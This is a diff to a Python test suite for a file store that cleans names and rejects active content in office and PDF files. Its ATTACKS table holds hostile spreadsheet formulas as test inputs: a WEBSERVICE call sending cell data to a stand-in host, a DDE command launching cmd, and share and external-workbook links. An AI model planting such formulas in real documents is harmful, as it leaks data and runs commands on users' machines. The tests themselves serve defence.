@@ -120,7 +120,7 @@ def test_the_time_of_writing_makes_no_new_version(format: str, tmp_path: Path, m
     assert store.keep(f"a.{format}", one).version == 1
     again = store.keep(f"a.{format}", two)
     assert (again.version, again.unchanged) == (1, True)
-    assert again.path.read_bytes() == one
+    assert again.path.read_bytes() == store.read(f"a.{format}", 1)
 
 
 def test_another_question_gets_a_file_of_its_own(tmp_path: Path) -> None:
@@ -220,7 +220,9 @@ def test_a_damaged_index_is_set_aside_and_no_file_is_lost(tmp_path: Path) -> Non
         ("-rf.md", "rf.md"),
         (".bashrc.txt", "bashrc.txt"),
         ("CON.txt", "_CON.txt"),
-        ("com1.backup.csv", "_com1.backup.csv"),
+        ("com1.backup.csv", "com1_backup.csv"),
+        ("leak.vl.json", "leak_vl.json"),
+        ("data.yml", "data.yaml"),
         ("a\u202efdp.xlsx", "afdp.xlsx"),
         ("a\x00b\nc.txt", "abc.txt"),
         ('a<b>:"c|?*.txt', "a_b___c___.txt"),
@@ -239,7 +241,9 @@ def test_a_long_name_is_cut_at_a_whole_character() -> None:
     assert set(name[:-4]) == {"ü"}
 
 
-@pytest.mark.parametrize("name", ["a.exe", "a.xlsm", "a.html", "a.svg", "a", "", "a.xlsx.bat", "xlsx", "a.pdf/"])
+@pytest.mark.parametrize(
+    "name", ["a.exe", "a.xlsm", "a.py", "a.ipynb", "a.pkl", "a", "", "a.xlsx.bat", "xlsx", "a.pdf/"]
+)
 def test_files_that_could_run_are_not_kept(name: str, tmp_path: Path) -> None:
     with pytest.raises(InputError, match="cannot be kept") as caught:
         save(name, b"x", tmp_path)
@@ -356,11 +360,19 @@ def formula(text: str) -> bytes:
 
 
 def word_field(*pieces: str) -> bytes:
+    """A document with one field, its code in pieces."""
     document = docx.Document()
-    for piece in pieces:
-        instruction = docx.oxml.OxmlElement("w:instrText")
-        instruction.text = piece
-        document.add_paragraph().add_run()._r.append(instruction)
+    paragraph = document.add_paragraph("abc")
+    for kind in ("begin", *pieces, "end"):
+        run = paragraph.add_run()._r
+        if kind in {"begin", "end"}:
+            mark = docx.oxml.OxmlElement("w:fldChar")
+            mark.set(docx.oxml.ns.qn("w:fldCharType"), kind)
+            run.append(mark)
+        else:
+            instruction = docx.oxml.OxmlElement("w:instrText")
+            instruction.text = kind
+            run.append(instruction)
     buffer = io.BytesIO()
     document.save(buffer)
     return buffer.getvalue()
@@ -428,18 +440,14 @@ ATTACKS = {
     "xlsx WEBSERVICE": ("xlsx", lambda: formula('=WEBSERVICE("http://x.test/"&A2)'), "WEBSERVICE"),
     "xlsx DDE": ("xlsx", lambda: formula("=cmd|'/c calc'!A1"), "reaches out"),
     "xlsx RTD": ("xlsx", lambda: formula('=1+rtd("a",,"b")'), "RTD"),
-    "xlsx built link": ("xlsx", lambda: formula('=HYPERLINK("http://x.test/?"&A2,"more")'), "HYPERLINK"),
+    "xlsx link to a share": ("xlsx", lambda: formula('=HYPERLINK("\\\\host\\"&A2,"more")'), "neither to the web"),
     "xlsx other workbook": ("xlsx", lambda: formula("=[other.xlsx]Sheet1!A1"), "out of the workbook"),
     "xlsx share": ("xlsx", lambda: formula("='\\\\host\\share\\[a.xlsx]S'!A1"), "out of the workbook"),
     "xlsx external link": ("xlsx", lambda: related(workbook(), "xl/_rels/workbook.xml.rels", "externalLink", "a.xml",
                                                    "Internal"), "another workbook"),
     "xlsx connection": ("xlsx", lambda: related(workbook(), "xl/_rels/workbook.xml.rels", "connections", "c.xml",
                                                 "Internal"), "data connection"),
-    "xlsx embedded program": ("xlsx", lambda: with_part(workbook(), "xl/embeddings/oleObject1.bin", b"MZ"), "embedded"),
-    "pptx program": ("pptx", lambda: changed(plain("pptx"), "ppt/slides/slide1.xml", lambda text:
-                     '<p xmlns="a"><hlinkClick action="ppaction://program?a.exe"/></p>'), "starts a program"),
-    "pptx workbook within": ("pptx", lambda: with_part(plain("pptx"), "ppt/embeddings/a.xlsx",
-                                                       formula('=WEBSERVICE("http://x")')), "WEBSERVICE"),
+    "xlsx hidden part": ("xlsx", lambda: with_part(workbook(), "xl/embeddings/oleObject1.bin", b"MZ"), "nothing in it"),
     "pdf script": ("pdf", lambda: pdf_with(OpenAction=SCRIPT), "a script"),
     "pdf attachment": ("pdf", attached, "embedded files"),
     "pdf program": ("pdf", lambda: pdf_with(OpenAction=LAUNCH), "starts a program"),
@@ -462,7 +470,7 @@ def test_what_only_looks_like_it_passes() -> None:
     assert check("xlsx", formula('=HYPERLINK("https://example.org","site")'))
     assert check("xlsx", formula('=IF(A2>1,"call(now) | a!b","[x.xlsx]")'))
     assert check("docx", related(plain("docx"), WORD, "hyperlink", "https://example.org/a"))
-    assert check("docx", word_field(' HYPERLINK "https://example.org" ', "PAGE"))
+    assert check("docx", word_field(' HYPERLINK "https://', 'example.org" '))
 
 
 def test_cells_of_a_csv_that_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
